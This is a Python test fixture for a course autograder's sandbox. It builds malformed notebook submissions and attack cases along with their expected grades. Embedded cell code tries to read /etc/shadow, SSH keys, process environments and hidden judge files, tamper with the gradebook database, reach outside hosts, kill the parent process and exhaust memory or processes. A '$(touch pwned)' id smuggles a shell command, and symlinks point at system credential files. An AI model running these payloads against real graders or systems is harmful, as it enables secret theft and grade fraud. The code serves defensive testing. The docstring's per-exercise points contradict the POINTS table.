"""Bad submissions and attacks on the grader, generated from Section 1's release and source notebooks.

Each case writes submitted/<case>/01_foundations/ in a temporary course and states what grading must
conclude: the points its code deserves (Section 1 has 17.5, one graded cell per exercise, scored by the
judge: sdpa 6, kv_cache 4, low_rank 6, gating 6, decode 7, quiz 3) and the diagnoses the batch summary
must carry. Graded cells never run in the kernel, so what a submission does to them (edits, deletion,
stderr noise) costs nothing by itself; only the learner's code counts. Attack cases start from the
untouched release (it deserves 0) and put their attack in the first answer cell; what an attack managed
is printed in that cell's output and checked by tests/test_sandbox.py. Folder cases (``refused``) are
submitted/ entries that are no submission at all: a reserved or unusable student id, a symbolic link.
"""

from __future__ import annotations

import copy
import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SECTION = "01_foundations"
FULL = 17.5
POINTS = {"sdpa": 3.0, "kv_cache": 2.0, "low_rank": 3.0, "gating": 3.0, "decode": 3.5, "quiz": 3.0}
JUDGE_SIGNATURE = "def judge(k, t)"  # in every judge module (course_judge/), never in a kernel's reach
ATTACK = "ATTACK"  # printed by an attack that got through


@dataclass
class Case:
    name: str
    build: Callable[[Path, dict, dict], None]  # (submission folder, good notebook, blank release)
    score: float | None  # expected total (None: checked by the case's own test)
    kinds: set[str] = field(default_factory=set)  # diagnoses the summary must list
    review: bool = False  # flagged for a person to look at
    lost: tuple[str, ...] = ()  # exercises expected to lose all their points (documentation and checks)
    refused: bool = False  # a submitted/ folder that is refused: never graded, no gradebook entry
    student: str | None = None  # the folder's name when it is not the case's name
    fast: bool = False  # over a cap: diagnosed without parsing, in seconds

    @property
    def folder(self) -> str:
        return self.student if self.student is not None else self.name


def gid(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def find(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if gid(c) == grade_id)


def setup_id(nb: dict) -> str:
    """The grade id of the setup cell: the first locked code cell that is neither graded nor an answer."""
    for c in nb["cells"]:
        m = c.get("metadata", {}).get("nbgrader", {})
        if c["cell_type"] == "code" and m.get("locked") and not m.get("grade") and not m.get("solution"):
            return m["grade_id"]
    raise LookupError("no setup cell")


def index(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if gid(c) == grade_id)


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def md_cell(source: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def src(cell: dict) -> str:
    s = cell["source"]
    return "".join(s) if isinstance(s, list) else s


def write(folder: Path, nb: dict, name: str = f"{SECTION}.ipynb") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(nb, indent=1))


def prepend(nb: dict, grade_id: str, code: str) -> dict:
    nb = copy.deepcopy(nb)
    c = find(nb, grade_id)
    c["source"] = textwrap.dedent(code).strip("\n") + "\n" + src(c)
    return nb


def wrong_sdpa(nb: dict) -> dict:
    """The attention without its 1/sqrt(d) scale: fails the sdpa tests (visible and hidden), nothing else."""
    nb = copy.deepcopy(nb)
    c = find(nb, "ex_01_1_sdpa")
    s = src(c)
    assert "/ math.sqrt(d)" in s
    c["source"] = s.replace("/ math.sqrt(d)", "")
    return nb


# ---------------------------------------------------------------- bad submissions


def syntax_error(folder, good, blank):
    nb = copy.deepcopy(good)
    find(nb, "ex_01_1_sdpa")["source"] = "def scaled_dot_product_attention(q, k, v mask=None):\n    return q\n"
    write(folder, nb)


def endless_loop(folder, good, blank):
    write(folder, prepend(good, "ex_01_1_kv_cache", "while True:\n    pass"))


def wedged_kernel(folder, good, blank):
    code = """
    import time as _time
    while True:  # swallows the grader's interrupt: the kernel never comes back
        try:
            _time.sleep(0.5)
        except KeyboardInterrupt:
            pass
    """
    write(folder, prepend(good, "ex_01_3_gating", code))


def huge_allocation(folder, good, blank):
    write(folder, prepend(good, "ex_01_2_low_rank", "_big = torch.empty(3 * 2**30)  # 12 GB: over the kernel's memory limit"))


def output_flood(folder, good, blank):
    write(folder, prepend(good, "ex_01_4_decode", "for _i in range(300_000):\n    print('flood', _i, 'x' * 40)"))


def stderr_noise(folder, good, blank):
    nb = copy.deepcopy(good)
    c = find(nb, "ex_01_1_sdpa")
    assert "    T, S, d = " in src(c)
    noise = "    import sys as _sys\n    print('debug: sdpa called', file=_sys.stderr)\n"
    c["source"] = src(c).replace("    T, S, d = ", noise + "    T, S, d = ", 1)
    write(folder, nb)


def deleted_cells(folder, good, blank):
    nb = copy.deepcopy(good)
    drop = {setup_id(nb), "test_01_1_sdpa", "test_01_2_low_rank", "test_01_quiz"}
    nb["cells"] = [c for c in nb["cells"] if gid(c) not in drop and c["cell_type"] != "markdown"]
    write(folder, nb)


def duplicated_cells(folder, good, blank):
    nb = copy.deepcopy(good)
    wrong = copy.deepcopy(find(wrong_sdpa(good), "ex_01_1_sdpa"))  # an early wrong draft, kept by mistake
    nb["cells"].insert(index(nb, "ex_01_1_sdpa"), wrong)
    test = copy.deepcopy(find(nb, "test_01_1_kv_cache"))
    test["source"] = "assert False, 'an edited copy of a test cell'"
    nb["cells"].insert(index(nb, "test_01_1_kv_cache"), test)
    nb["cells"].append(copy.deepcopy(find(nb, "quiz_01_answers")))
    write(folder, nb)


def edited_locked(folder, good, blank):
    nb = wrong_sdpa(good)
    find(nb, "test_01_1_sdpa")["source"] = "print('tests? what tests')"
    find(nb, "test_01_quiz")["metadata"]["nbgrader"]["points"] = 100
    find(nb, "test_01_4_decode")["metadata"]["nbgrader"]["grade"] = False
    find(nb, setup_id(nb))["source"] += "\nassert_close = lambda *a, **k: None"
    write(folder, nb)


def reordered_extra_cells(folder, good, blank):
    nb = copy.deepcopy(good)
    cells = nb["cells"]
    ex = cells.pop(index(nb, "ex_01_1_sdpa"))
    cells.insert(index(nb, "test_01_1_sdpa") + 1, ex)  # answer moved below its graded cell
    block = [c for c in cells if gid(c) in ("ex_01_4_decode", "test_01_4_decode")]
    for c in block:
        cells.remove(c)
    at = index(nb, "ex_01_1_kv_cache")
    cells[at:at] = block  # a whole exercise moved up
    cells.insert(3, md_cell("my notes: remember the scale"))
    cells.insert(5, code_cell("scratch = [i * i for i in range(10)]\nprint(sum(scratch))"))
    cells.append(code_cell("print('the end of my notebook')"))
    write(folder, nb)


def renamed_notebook(folder, good, blank):
    write(folder, good, name=f"{SECTION} (1).ipynb")


def broken_json(folder, good, blank):
    folder.mkdir(parents=True, exist_ok=True)
    text = json.dumps(good, indent=1)
    (folder / f"{SECTION}.ipynb").write_text(text[: len(text) // 2])


def missing_notebook(folder, good, blank):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "notes.txt").write_text("I forgot to attach the notebook\n")


def extra_files(folder, good, blank):
    write(folder, good)
    (folder / "data.csv").write_text("a,b\n1,2\n")
    (folder / "helper.py").write_text("def f():\n    return 1\n")
    write(folder, blank, name="scratch.ipynb")
    write(folder / ".ipynb_checkpoints", blank, name=f"{SECTION}-checkpoint.ipynb")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "helper.cpython-311.pyc").write_bytes(b"\0" * 16)


FAKE_TESTING = '''
"""A submitted course_lib whose helpers never fail."""
def assert_close(*a, **k):
    return None
def assert_shape(*a, **k):
    return None
def assert_true(*a, **k):
    return None
'''


def shadow_course_lib(folder, good, blank):
    write(folder, wrong_sdpa(good))
    (folder / "course_lib").mkdir()
    (folder / "course_lib" / "__init__.py").write_text("")
    (folder / "course_lib" / "testing.py").write_text(FAKE_TESTING)
    (folder / "course_lib.py").write_text(FAKE_TESTING)
    (folder / "torch.py").write_text("raise SystemExit('a submitted torch.py was imported')\n")


# ---------------------------------------------------------------- folders, links, timestamps, caps (the batch itself)


def course_root(folder: Path) -> Path:
    return folder.parents[2]  # <root>/submitted/<student>/<section>


def reserved_name(folder, good, blank):
    """A student folder named like one of the batch's reports (summary.md): refused, the reports still written."""
    write(folder, good)


def symlink_student(target: str) -> Callable:
    def build(folder, good, blank):
        folder.parent.parent.mkdir(parents=True, exist_ok=True)
        dest = course_root(folder) / "source" if target == "source" else Path(target)
        folder.parent.symlink_to(dest, target_is_directory=True)  # source/01_foundations/: the instructor's notebook

    return build


def symlink_section(folder, good, blank):
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(course_root(folder) / "source" / SECTION, target_is_directory=True)


def symlink_notebook(folder, good, blank):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{SECTION}.ipynb").symlink_to(course_root(folder) / "source" / SECTION / f"{SECTION}.ipynb")


def symlink_files(folder, good, blank):
    write(folder, good)
    (folder / "timestamp.txt").symlink_to("/etc/shadow")
    (folder / "data.csv").symlink_to("/etc/passwd")
    (folder / "etc").symlink_to("/etc", target_is_directory=True)


def bad_timestamp(folder, good, blank):
    write(folder, good)
    (folder / "timestamp.txt").write_text("submitted: last tuesday, around noon\n")


def deep_json(folder, good, blank):
    folder.mkdir(parents=True, exist_ok=True)
    depth = 200_000
    (folder / f"{SECTION}.ipynb").write_text('{"cells": [' + "[" * depth + "]" * depth + '], "nbformat": 4}')


def many_cells(folder, good, blank):
    nb = copy.deepcopy(good)
    nb["cells"] += [{"cell_type": "raw", "metadata": {}, "source": ""}] * 150_000
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{SECTION}.ipynb").write_text(json.dumps(nb, separators=(",", ":")))


HUGE_MB = 12  # over the corpus's COURSE_MAX_NOTEBOOK_MB


def huge_notebook(folder, good, blank):
    nb = copy.deepcopy(good)
    nb["cells"].append(md_cell("x" * (HUGE_MB << 20)))
    write(folder, nb)


def regrade_crash(folder, good, blank):
    """Graded in full first; then (run_corpus step 4) replaced by a notebook that once crashed staging."""
    write(folder, good)


def regrade_to_crash(folder: Path) -> None:
    for f in folder.iterdir():
        f.unlink()
    deep_json(folder, None, None)


MEMORY_BOMB = """
import os as _os, time as _time
for _f in ("/tmp/ballast-1.bin", "/tmp/ballast-2.bin"):  # 700 MB of tmpfs (files under the file-size limit)
    with open(_f, "wb") as _fh:
        for _i in range(350):
            _fh.write(b"x" * (1 << 20))
_kids = []
for _i in range(3):  # three children of 600 MB each: every process under its own address-space limit
    _pid = _os.fork()
    if _pid == 0:
        _b = bytearray(600 << 20)
        for _j in range(0, len(_b), 4096):
            _b[_j] = 1
        _time.sleep(20)
        _os._exit(0)
    _kids.append(_pid)
print("children ended:", [_os.waitpid(_p, 0)[1] for _p in _kids])
raise RuntimeError("the memory bomb is over")
"""


def memory_bomb(folder, good, blank):
    """Good code, then a cell whose children and tmpfs exceed the sandbox's memory: only that cell's exercise is lost."""
    write(folder, prepend(good, "quiz_01_answers", MEMORY_BOMB))


FORK_HOG = """
import os as _os, threading as _threading, time as _time
_end = _time.time() + 30
_kids = []
for _i in range(12):  # twelve busy children ...
    _pid = _os.fork()
    if _pid == 0:
        while _time.time() < _end:
            pass
        _os._exit(0)
    _kids.append(_pid)
_go = _threading.Event()
def _spin():
    _go.wait()
    while _time.time() < _end:
        pass
_threads = []
try:
    for _i in range(1000):  # ... and as many busy threads as the sandbox allows
        _threads.append(_threading.Thread(target=_spin, daemon=True))
        _threads[-1].start()
except RuntimeError as _e:
    print("threads refused after", len(_threads), _e)
_go.set()
_time.sleep(max(0, _end - _time.time()))
for _p in _kids:
    _os.waitpid(_p, 0)
"""


def fork_hog(folder, good, blank):
    write(folder, prepend(blank, "ex_01_1_sdpa", FORK_HOG))


# ---------------------------------------------------------------- sandbox attacks


def attack_read(root: Path) -> Callable:
    def build(folder, good, blank):
        code = f'''
        import glob as _glob, os as _os
        _root = {str(root)!r}
        _repo = {str(Path(__file__).resolve().parents[1])!r}
        _targets = [_root + "/source/{SECTION}/{SECTION}.ipynb", _root + "/gradebook.db", _root + "/release/{SECTION}/{SECTION}.ipynb",
                    _root + "/submitted/good/{SECTION}/{SECTION}.ipynb", _root + "/autograded/good/{SECTION}/{SECTION}.ipynb",
                    _root + "/feedback", _repo + "/source/{SECTION}/{SECTION}.ipynb", _repo + "/solutions/{SECTION}/{SECTION}.ipynb",
                    _repo + "/gradebook.db", "{SECTION}.ipynb", "../{SECTION}.ipynb", "/proc/1/root" + _root + "/gradebook.db",
                    _repo + "/course_judge/s01_foundations/sdpa.py", _repo + "/course_judge/__init__.py",
                    _repo + "/course_lib/deepseek/moe.py", "/root/.ssh", "/etc/shadow"]
        _targets += [p + _root + "/source/{SECTION}/{SECTION}.ipynb" for p in _glob.glob("/proc/*/root")]
        _targets += _glob.glob("/proc/*/environ") + _glob.glob("/proc/*/cwd/*.ipynb")
        for _up in ("..", "../..", "../../..", "../../../.."):
            for _dirpath, _dirs, _files in _os.walk(_up):
                _targets += [_os.path.join(_dirpath, f) for f in _files if f.endswith((".ipynb", ".db"))]
                if _dirpath.count("/") > 6:
                    break
        for _p in _targets:
            try:
                if _os.path.isdir(_p):
                    print("{ATTACK} READ", _p, _os.listdir(_p)[:5])
                    continue
                with open(_p, "rb") as _fh:
                    _data = _fh.read()
                print("{ATTACK} READ", _p, _data[:120])
                if b"def judge(" in _data or b"MUTANTS" in _data or b"BEGIN SOLUTION" in _data:
                    print("{ATTACK} HIDDEN", _p, _data.decode(errors="replace")[:2000])
            except Exception as _e:
                print("denied", _p, type(_e).__name__)
        '''
        write(folder, prepend(blank, "ex_01_1_sdpa", code))

    return build


def attack_write(root: Path, token: str) -> Callable:
    def build(folder, good, blank):
        code = f'''
        import os as _os
        _root = {str(root)!r}
        for _p in [_root + "/pwned-{token}.txt", _root + "/source/{SECTION}/pwned-{token}.txt", _root + "/release/pwned-{token}.txt",
                   _root + "/autograded/attack_write/{SECTION}/pwned-{token}.txt", _root + "/submitted/good/{SECTION}/pwned-{token}.txt",
                   "/tmp/pwned-{token}.txt", _os.path.expanduser("~/pwned-{token}.txt"), "pwned-{token}.txt",
                   "/usr/lib/pwned-{token}.txt", "/work/pwned-{token}.txt", "/var/tmp/pwned-{token}.txt", "/run/pwned-{token}.txt",
                   "/run/course-submission/pwned-{token}.txt", _root + "/autograded/.batch/diag/attack_write__{SECTION}.jsonl"]:
            try:
                with open(_p, "a") as _fh:
                    _fh.write("pwned")
                print("{ATTACK} WROTE", _p)
            except Exception as _e:
                print("denied", _p, type(_e).__name__)
        import sys as _sys
        _own = [_os.path.dirname(_sys.argv[_sys.argv.index("-f") + 1]) + "/pwned-{token}.txt", "/dev/shm/pwned-{token}.txt"]
        for _p in _own:  # the kernel's own IPC folder and /dev/shm: memory, thrown away with the kernel
            try:
                with open(_p, "w") as _fh:
                    _fh.write("pwned")
                print("own", _p)
            except Exception as _e:
                print("denied", _p, type(_e).__name__)
        for _where in (".", "/tmp"):  # fill the working folder and /tmp: size-limited tmpfs
            _n, _files = 0, []
            try:
                while _n < 4096:  # files of 64 MB (each under the file-size limit) until the folder is full
                    _files.append(_where + f"/fill-{token}-{{len(_files)}}.bin")
                    with open(_files[-1], "wb") as _fh:
                        for _i in range(64):
                            _fh.write(b"x" * (1 << 20))
                            _fh.flush()
                            _n += 1
            except Exception as _e:
                print("denied fill", _where, type(_e).__name__)
            print("FILLED", _where, _n, "MB")
            for _f in _files:
                _os.remove(_f)
        '''
        write(folder, prepend(blank, "ex_01_1_sdpa", code))

    return build


def attack_network(port: int) -> Callable:
    def build(folder, good, blank):
        code = f'''
        import socket as _socket
        for _host, _port in [("127.0.0.1", {port}), ("localhost", {port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
            try:
                _s = _socket.create_connection((_host, _port), timeout=3)
                _s.sendall(b"{ATTACK}")
                print("{ATTACK} CONNECTED", _host, _port)
            except Exception as _e:
                print("denied", _host, _port, type(_e).__name__)
        try:
            print("{ATTACK} RESOLVED", _socket.getaddrinfo("example.com", 80)[:1])
        except Exception as _e:
            print("denied dns", type(_e).__name__)
        '''
        write(folder, prepend(blank, "ex_01_1_sdpa", code))

    return build


def attack_grade(root: Path) -> Callable:
    def build(folder, good, blank):
        code = f'''
        import json as _json, os as _os, sqlite3 as _sqlite3
        _root = {str(root)!r}
        for _db in [_root + "/gradebook.db", "gradebook.db"]:
            try:
                _con = _sqlite3.connect("file:" + _db + "?mode=rw", uri=True)
                _con.execute("UPDATE grade SET auto_score = 1000")
                _con.commit()
                print("{ATTACK} GRADEBOOK", _db)
            except Exception as _e:
                print("denied", _db, type(_e).__name__)
        _mine = _root + "/autograded/attack_grade/{SECTION}/{SECTION}.ipynb"
        try:
            _os.makedirs(_os.path.dirname(_mine), exist_ok=True)
            with open(_mine, "w") as _fh:
                _fh.write("{{}}")
            print("wrote", _mine, "(inside the sandbox only)")
        except Exception as _e:
            print("denied", _mine, type(_e).__name__)
        try:
            _os.kill(_os.getppid(), 9)
            print("killed my parent", _os.getppid())
        except Exception as _e:
            print("denied kill", type(_e).__name__)
        '''
        write(folder, prepend(blank, "ex_01_1_sdpa", code))

    return build


REFUSED_IDS = ("summary.md", "README.md", ".batch", "bad id", "o'brien", "jos\u00e9", "$(touch pwned)", "eve\nmallory")
CONFINED_CASES = ("memory_bomb", "fork_hog")  # need the sandbox's cgroup (without one they would load the host)


def cases(root: Path, port: int, token: str) -> list[Case]:
    lost_sdpa = ("sdpa",)
    out = [
        Case("good", lambda f, g, b: write(f, g), FULL),
        Case("blank", lambda f, g, b: write(f, b), 0.0),
        Case("syntax_error", syntax_error, FULL - POINTS["sdpa"], lost=lost_sdpa),
        Case("endless_loop", endless_loop, FULL - POINTS["kv_cache"], {"cell_timeout"}, lost=("kv_cache",)),
        Case("wedged_kernel", wedged_kernel, POINTS["sdpa"] + POINTS["kv_cache"] + POINTS["low_rank"], {"kernel_stopped"},
             lost=("gating", "decode", "quiz")),
        Case("huge_allocation", huge_allocation, FULL - POINTS["low_rank"], {"memory"}, lost=("low_rank",)),
        Case("output_flood", output_flood, FULL, {"output_flood"}),
        Case("stderr_noise", stderr_noise, FULL),  # stderr of a learner's cell never mattered: graded cells don't run
        Case("deleted_cells", deleted_cells, FULL, {"deleted_restored"}),
        Case("duplicated_cells", duplicated_cells, FULL, {"duplicated"}),
        Case("edited_locked", edited_locked, FULL - POINTS["sdpa"], {"edited_locked"}, lost=lost_sdpa),
        Case("reordered_extra_cells", reordered_extra_cells, FULL, {"reordered"}),
        Case("renamed_notebook", renamed_notebook, FULL, {"renamed"}),
        Case("broken_json", broken_json, 0.0, {"broken_notebook"}),
        Case("missing_notebook", missing_notebook, 0.0, {"missing_notebook"}),
        Case("extra_files", extra_files, FULL, {"extra_files"}),
        Case("shadow_course_lib", shadow_course_lib, FULL - POINTS["sdpa"], {"shadow_package"}, lost=lost_sdpa),
        # the batch itself: folders, links, timestamps, caps
        *[Case(f"refused_{i}", reserved_name, None, {"invalid_student"}, review=True, refused=True, student=sid)
          for i, sid in enumerate(REFUSED_IDS)],
        Case("symlink_student", symlink_student("source"), None, {"symlink"}, review=True, refused=True),
        Case("symlink_etc", symlink_student("/etc"), None, {"symlink"}, review=True, refused=True),
        Case("symlink_section", symlink_section, 0.0, {"symlink"}, review=True),
        Case("symlink_notebook", symlink_notebook, 0.0, {"symlink", "missing_notebook"}, review=True),
        Case("symlink_files", symlink_files, FULL, {"symlink"}, review=True),
        Case("bad_timestamp", bad_timestamp, FULL, {"bad_timestamp"}),
        Case("deep_json", deep_json, 0.0, {"notebook_limit"}, fast=True),
        Case("many_cells", many_cells, 0.0, {"notebook_limit"}, fast=True),
        Case("huge_notebook", huge_notebook, 0.0, {"notebook_limit"}, fast=True),
        Case("regrade_crash", regrade_crash, 0.0, {"notebook_limit"}),  # full marks first, then regraded (run_corpus)
        # resources: the sandbox's cgroup
        Case("memory_bomb", memory_bomb, FULL - POINTS["quiz"], {"memory", "suspicious"}, review=True, lost=("quiz",)),
        Case("fork_hog", fork_hog, 0.0, {"pids_limit", "suspicious"}, review=True),
        # attacks on the sandbox
        Case("attack_read", attack_read(root), 0.0, {"suspicious"}, review=True),
        Case("attack_write", attack_write(root, token), 0.0, {"suspicious"}, review=True),
        Case("attack_network", attack_network(port), 0.0, {"suspicious"}, review=True),
        Case("attack_grade", attack_grade(root), 0.0, {"suspicious"}, review=True),
    ]
    return out


# ---------------------------------------------------------------- the whole corpus, graded as an instructor would

CANVAS = {  # LMS download (zip): Canvas-style names, filed by `course.py collect` (nbgrader zip_collect)
    "zipgood_1101_2202_01_foundations.ipynb": "good",
    "ziplate_LATE_3303_4404_01_foundations-1.ipynb": "good",  # a re-upload: the LMS appended -1
}
ZIP_EXPECTED = {"zipgood": (FULL, set()), "ziplate": (FULL, {"renamed"})}


class Listener:
    """A TCP server on the grader's loopback that records every connection (none may come from a kernel)."""

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:

        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.hits.append(conn.recv(100) or b"<connected>")
                except OSError:
                    self.hits.append(b"<connected>")

    def close(self) -> None:
        self._stop = True
        self.sock.close()


def build_corpus(root: Path, course, port: int, token: str, attacks: bool, confined: bool = True) -> list[Case]:
    import zipfile

    rel = course._load(root / "release" / SECTION / f"{SECTION}.ipynb")
    source = course._load(root / "source" / SECTION / f"{SECTION}.ipynb")
    good = course.partial_notebook(copy.deepcopy(rel), source, 1.0)
    chosen = [c for c in cases(root, port, token)
              if (attacks or not c.name.startswith("attack_")) and (confined or c.name not in CONFINED_CASES)]
    for case in chosen:
        case.build(root / "submitted" / case.folder / SECTION, copy.deepcopy(good), copy.deepcopy(rel))
    archive = root / "downloaded" / SECTION / "archive"
    archive.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(archive / "canvas_download.zip", "w") as z:
        for name, kind in CANVAS.items():
            z.writestr(name, json.dumps(good if kind == "good" else rel))
        z.writestr("readme_from_the_lms.txt", "not a submission")
    return chosen


def run_batch(root: Path, env: dict, *extra: str, timeout: float = 3000):
    import subprocess
    import sys

    tools = Path(__file__).resolve().parents[1] / "tools" / "course.py"
    return subprocess.run([sys.executable, str(tools), "--root", str(root), "autograde", *extra], env=env,
                          capture_output=True, text=True, timeout=timeout)


CORPUS_ENV = {  # small limits, so that the bad submissions hit them quickly (and a memory bomb stays small)
    "COURSE_CELL_TIMEOUT": "45", "MPLBACKEND": "Agg", "COURSE_KERNEL_MEMORY_MB": "2048", "COURSE_KERNEL_AS_MB": "8192",
    "COURSE_KERNEL_TMP_MB": "1024", "COURSE_KERNEL_WORK_MB": "64", "COURSE_MAX_NOTEBOOK_MB": "10",
}


def leftovers() -> list[str]:
    """Private kernel folders and cgroups of grading processes that are gone."""
    import tempfile

    from course_judge import sandbox

    found = []
    dirs = [*Path(tempfile.gettempdir()).glob(f"{sandbox.PREFIX}*-*"), *sandbox.runtime_base().glob(f"{sandbox.PREFIX}*-*"),
            *sandbox._stale_cgroup_dirs()]
    for d in dirs:
        pid = d.name.split("-")[2]
        if not sandbox._pid_alive(pid):
            found.append(str(d))
    return found


def gradebook_scores(root: Path, course) -> dict:
    """{student: score} of SECTION in the gradebook, and the set of students it knows."""
    from nbgrader.api import Gradebook

    with Gradebook(course._gradebook_url(root), course.COURSE_ID) as gb:
        students = {s.id for s in gb.students}
        scores = {}
        for sub in gb.assignment_submissions(SECTION):
            scores[sub.student_id] = sub.score
    return {"students": students, "scores": scores}


def run_corpus(root: Path, course, sandboxed: bool, confined: bool | None = None) -> dict:
    """Generate the corpus, collect the LMS zip, grade everything with a crash in the middle, re-run twice.

    Attacks run only ``sandboxed``; the memory bomb and the fork hog only ``confined`` (default: when every kernel
    gets its own cgroup here).
    """
    import os
    import secrets
    import signal
    import subprocess
    import sys
    import time

    env = {**os.environ, **CORPUS_ENV}
    if confined is None:
        from course_judge.sandbox import confinement_status

        confined = confinement_status()[0]
    proc = course.run_nbgrader(root, "generate_assignment", SECTION, "--force")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    listener = Listener()
    token = secrets.token_hex(6)
    chosen = build_corpus(root, course, listener.port, token, attacks=sandboxed, confined=confined)
    course.collect(root, SECTION)
    out: dict = {"root": root, "cases": {c.name: c for c in chosen}, "token": token, "listener": listener}
    # 1. start the batch, kill it (SIGKILL, like a crash) once a few submissions are done
    tools = Path(__file__).resolve().parents[1] / "tools" / "course.py"
    first = subprocess.Popen([sys.executable, str(tools), "--root", str(root), "autograde"], env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    state = root / "autograded" / ".batch" / "state"
    deadline = time.time() + 1500
    while time.time() < deadline and first.poll() is None and len(list(state.glob("*.json"))) < 4:
        time.sleep(1)
    done_before_crash = sorted(p.stem for p in state.glob("*.json"))
    os.killpg(first.pid, signal.SIGKILL)
    out["first"] = first.communicate()[0]
    out["done_before_crash"] = done_before_crash
    # 2. resume: what was done is skipped, the rest graded
    t0 = time.time()
    second = run_batch(root, env)
    out["resume"] = second
    out["resume_seconds"] = time.time() - t0
    # 3. nothing changed: everything skipped
    t0 = time.time()
    out["rerun"] = run_batch(root, env)
    out["rerun_seconds"] = time.time() - t0
    out["before_regrade"] = gradebook_scores(root, course)
    # 4. two submissions change: only they are graded again; one of them now crashed staging before (deep JSON)
    regrade_to_crash(root / "submitted" / "regrade_crash" / SECTION)
    nb_path = root / "submitted" / "good" / SECTION / f"{SECTION}.ipynb"
    nb = json.loads(nb_path.read_text())
    nb["cells"].append(code_cell("print('one more cell after the deadline')"))
    nb_path.write_text(json.dumps(nb, indent=1))
    out["changed"] = run_batch(root, env)
    out["after_regrade"] = gradebook_scores(root, course)
    out["leftovers"] = leftovers()
    listener.close()
    for step in ("resume", "rerun", "changed"):
        proc = out[step]
        assert (root / "nbgrader_config.py").exists() and (root / "autograded" / "summary.json").is_file(), (
            f"after the {step} batch the course or its summary is gone (exit {proc.returncode}):\n"
            + proc.stdout[-4000:] + "\n" + proc.stderr[-4000:])
    out["summary"] = json.loads((root / "autograded" / "summary.json").read_text())
    out["records"] = {r["student"]: r for r in out["summary"]["submissions"]}
    out["refused"] = {r["student"]: r for r in out["summary"]["refused"]}
    return out
